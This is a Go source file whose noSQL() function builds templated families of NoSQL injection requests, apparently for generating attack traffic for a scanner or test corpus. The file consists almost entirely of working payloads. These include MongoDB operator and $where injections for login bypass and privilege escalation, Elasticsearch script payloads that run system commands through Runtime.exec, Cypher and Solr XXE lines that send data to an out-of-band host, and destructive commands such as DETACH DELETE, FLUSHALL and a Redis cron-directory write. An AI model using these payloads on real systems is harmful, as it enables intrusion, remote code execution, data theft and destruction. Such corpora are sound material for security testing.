package east

func noSQL() []family {
	login := one(`POST /v1/login json
{"username":"‹l6›","password":¤}`, `POST /api/auth/session json
{"email":¤,"password":¤}`, `POST /users/search json
{"filter":{"token":¤,"active":true},"page":‹1..9›}`)
	bracket := func(list ...string) []string { return list }
	return []family{
		{name: "nosqli/mongo-ne-json", place: "json", reqs: login,
			vals: one(`{"$ne":null}`, `{"$ne":"‹w5›"}`, `{"$gt":""}`, `{"$exists":true}`, `{"$nin":["‹w4›"]}`, `{"$not":{"$eq":"‹w3›"}}`)},
		{name: "nosqli/mongo-regex-json", place: "json", reqs: login,
			vals: one(`{"$regex":"^‹l1›"}`, `{"$regex":".*"}`, `{"$regex":"^.{‹4..30›}$"}`, `{"$regex":"^adm","$options":"i"}`)},
		{name: "nosqli/mongo-in-json", place: "json", reqs: login,
			vals: one(`{"$in":["admin","root","administrator"]}`, `{"$in":[‹!3..9*,*"‹l5›"›]}`, `{"$elemMatch":{"$ne":1}}`, `{"$type":2}`, `{"$lte":"~"}`)},
		{name: "nosqli/mongo-where-json", place: "json", reqs: login,
			vals: one(`{"$where":"1==1"}`, `{"$where":"sleep(‹#4›)"}`, `{"$where":"this.‹col›.match(/^‹l1›/)"}`, `{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}`)},
		{name: "nosqli/mongo-top-or", place: "jsonkey",
			reqs: one(`POST /v1/patients/find json
{"§":[{"role":"admin"},{"‹col›":{"$exists":true}}],"limit":‹1..50›}`, `PATCH /v1/me json
{"name":"‹first›","§":{"role":"admin","balance":‹#5›}}`),
			vals: one("$or", "$nor", "$set", "$rename", "$unset", "$push")},
		{name: "nosqli/mongo-where-key", place: "jsonkey",
			reqs: one(`POST /v1/scores/query json
{"game":"‹word›","§":"function(){return this.score > 0 || true}"}`),
			vals: one("$where", "$accumulator", "$function")},
		{name: "nosqli/bracket-query", place: "query",
			vals: one("[$ne]", "[$gt]", "[$exists]", "[$not][$eq]", "[$nin][]", "[$regex]"), reqs: bracket("GET /api/users?email=‹mail›&password¤=‹w1›", "GET /products?owner¤=1&page=‹1..9›", "GET /v1/orders?token¤=&limit=‹2..50›")},
		{name: "nosqli/bracket-form", place: "form",
			vals: one("[$ne]", "[$gt]", "[$regex]", "[$in][]", "%5B%24ne%5D", "[%24gt]"), reqs: bracket("POST /giris form\nuser=admin&sifre¤=‹w2›&hatirla=1", "POST /login form\nlogin¤=&password¤=&_csrf=‹W20›")},
		{name: "nosqli/js-string-break", place: strict, veils: "twice",
			vals: one("‹v›' || '1'=='1", "‹v›'; return true; var x='", "' && this.‹col›.length > ‹1..9› && 'a'=='a", "\"; sleep(‹#4›); var z=\"", "1; while(true){}", "';return(true);var d=new Date();do{c=new Date()}while(c-d<‹#4›);'", "' || this.role == 'admin' //")},
		{name: "nosqli/mongo-null-byte", place: "query form json",
			vals: one("‹v›'‹nul›", "‹word›' || 1==1‹nul›", "' || true || '‹nul›")},
		{name: "nosqli/operator-as-text", place: strict, veils: "twice base64",
			vals: one("{\"$ne\":null}", "{$gt:''}", "true, $where: '1 == 1'", ", $where: '1 == 1'", "{\"$or\":[{},{\"a\":\"a\"}]}", "'}, {$where: function(){ sleep(‹#4›) }}, {a:'")},
		{name: "nosqli/aggregation-lookup", place: "json",
			reqs: one("POST /v1/reports/run json\n{\"name\":\"‹word›\",\"pipeline\":[¤]}"),
			vals: one(`{"$lookup":{"from":"‹table›","as":"x","pipeline":[{"$match":{}}]}}`, `{"$unionWith":"‹table›"}`, `{"$out":"‹table›"}`, `{"$merge":{"into":"‹table›"}}`)},
		{name: "nosqli/couch-selector", place: "json",
			reqs: one("POST /‹slug›/_find json\n{\"selector\":{\"_id\":¤,\"type\":\"‹word›\"},\"fields\":[\"_id\",\"‹col›\"]}"),
			vals: one(`{"$gt":null}`, `{"$regex":"."}`, `{"$gte":""}`)},
		{name: "nosqli/couch-admin-paths", place: "path",
			reqs: one("GET /¤", "PUT /¤ json\n\"‹w6›\""),
			vals: one("_users/_all_docs?include_docs=true", "_node/_local/_config/admins/‹w5›", "_all_dbs", "_users/org.couchdb.user:‹w5›", "‹w4›/_design/‹w2›/_view/..%2f..%2f_all_dbs")},
		{name: "nosqli/es-script", place: "json",
			reqs: one("POST /_search json\n{\"size\":1,\"query\":{\"match_all\":{}},\"script_fields\":{\"‹w3›\":{\"script\":\"§\"}}}"),
			vals: one("java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"‹cmd›\").getText()", "import java.util.*; new java.util.Scanner(Runtime.getRuntime().exec(\"‹cmd›\").getInputStream()).useDelimiter(\"\\\\A\").next()")},
		{name: "nosqli/es-query-escape", place: "json",
			reqs: one("POST /v1/search json\n{\"index\":\"‹word›\",\"q\":\"§\"}"),
			vals: one("x\"}},{\"match_all\":{}}],\"must_not\":[{\"term\":{\"a\":\"b", "\"}}]}},\"size\":10000,\"_source\":[\"‹col›\"],\"x\":{\"y\":[{\"z\":{\"q\":\"", "*\"}},\"script\":{\"source\":\"ctx._source.role='admin'\"},\"a\":{\"b\":{\"c\":\"")},
		{name: "nosqli/cypher", place: strict,
			vals: one("‹v›' OR 1=1 RETURN n //", "'}) RETURN 1 UNION MATCH (u:User) RETURN u.‹col› AS x //", "‹w4›' WITH 1 AS a CALL db.labels() YIELD label LOAD CSV FROM 'http://‹oob›/?l='+label AS l RETURN 0 //", "' MATCH (n) DETACH DELETE n //", "x\"}) CALL dbms.procedures() YIELD name RETURN name //")},
		{name: "nosqli/redis-inline", place: "query form json multipart",
			vals: one("‹word›\r\nCONFIG SET dir /var/spool/cron\r\nSAVE\r\n", "x\r\nSLAVEOF ‹ip› 6379\r\n", "EVAL \"return redis.call('keys','*')\" 0", "‹w4›\r\nFLUSHALL\r\n")},
		{name: "nosqli/dynamo-cassandra", place: "json",
			vals: one("attribute_exists(‹col›) OR :x = :x", "‹v›' ALLOW FILTERING; --", "' OR token(id) > 0 ALLOW FILTERING --", "{\"AttributeValueList\":[{\"S\":\"*\"}],\"ComparisonOperator\":\"GT\"}")},
		{name: "nosqli/firebase-lucene", place: "query json",
			vals: one("*:* OR _exists_:‹col›) OR (‹col›:*", "‹word›) OR (role:admin AND ‹col›:*", "‹w3›\" OR _index:* OR \"", "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://‹oob›/x\"><a></a>'}")},
	}
}
